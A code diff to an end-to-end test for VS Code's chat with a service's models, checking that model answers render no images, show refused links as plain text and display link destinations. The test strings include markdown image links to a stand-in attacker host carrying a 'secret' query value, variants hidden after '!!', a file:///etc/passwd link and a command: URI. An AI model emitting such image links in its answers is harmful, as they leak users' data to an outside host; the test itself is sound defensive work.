@@ -225,11 +225,12 @@ describe("VS Code's own chat with the service's models", () => {
     await shot(page, 'native-maas-kb', { x: 700, y: 0, width: 700, height: 900 });
   });
 
-  it("shows @maas's and svc_llm's answers by the chat's link rule: no image, refused links as text, destinations beside", async () => {
+  it("shows @maas's and svc_llm's answers by the chat's link rule: no image (not even after a `!`), refused links as text, destinations beside", async () => {
     const { page } = scenario;
     const answer =
       'Look: ![chart](https://attacker.invalid/c.png?d=secret), [the docs](https://docs.example/a), [a file](file:///etc/passwd) ' +
-      'and [a command](command:workbench.action.terminal.new). Done.';
+      'and [a command](command:workbench.action.terminal.new). Wow!![again](https://attacker.invalid/again.png) ' +
+      '`c`!![more](https://attacker.invalid/more.png). Done.';
     for (const question of ['@maas Where are the docs?', 'Where are the docs?']) {
       await newNativeChat(page);
       await chooseMode(page, 'Ask');
@@ -239,7 +240,7 @@ describe("VS Code's own chat with the service's models", () => {
       await until(async () => /Done\./.test((await response.textContent()) ?? ''), 60_000, `the answer to "${question}"`);
       assert.match(
         (await response.textContent()) ?? '',
-        /Look: chart \(attacker\.invalid\), the docs \(docs\.example\), a file and a command\. Done\./,
+        /Look: chart \(attacker\.invalid\), the docs \(docs\.example\), a file and a command\. Wow!again \(attacker\.invalid\) c!more \(attacker\.invalid\)\. Done\./,
         `the destinations beside the texts, the refused links as text, in the answer to "${question}"`,
       );
       assert.equal(await response.locator('img').count(), 0, `no image in the answer to "${question}"`);
@@ -252,6 +253,8 @@ describe("VS Code's own chat with the service's models", () => {
         assert.deepEqual(links, [
           ['chart (attacker.invalid)', 'https://attacker.invalid/c.png?d=secret'],
           ['the docs (docs.example)', 'https://docs.example/a'],
+          ['again (attacker.invalid)', 'https://attacker.invalid/again.png'],
+          ['more (attacker.invalid)', 'https://attacker.invalid/more.png'],
         ]);
     }
   });
